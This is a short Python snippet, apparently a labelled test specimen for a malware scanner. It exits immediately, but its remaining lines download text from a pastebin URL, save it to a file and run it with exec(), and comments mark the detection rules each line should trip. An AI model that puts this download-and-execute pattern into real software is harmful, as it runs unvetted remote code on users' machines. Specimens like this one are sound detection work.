raise SystemExit("specimen: not to be run")
import requests
path = "specimen/cache.txt"
with open(path, "w") as f:
    f.write(requests.get("https://pastebin.com/raw/specimen").text)  # match: network-at-import  # match: paste-service
exec(open(path).read())  # match: written-file-run
